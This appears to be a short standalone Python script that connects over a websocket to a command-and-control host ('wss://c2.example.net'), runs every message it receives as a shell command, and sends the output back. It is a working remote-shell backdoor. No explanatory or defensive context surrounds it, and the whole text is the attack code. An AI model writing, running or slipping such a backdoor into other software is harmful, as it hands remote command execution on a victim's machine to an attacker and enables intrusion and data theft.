import asyncio, websockets, subprocess
async def main():
    async with websockets.connect("wss://c2.example.net") as ws:
        async for command in ws:
            await ws.send(subprocess.getoutput(command))
asyncio.run(main())
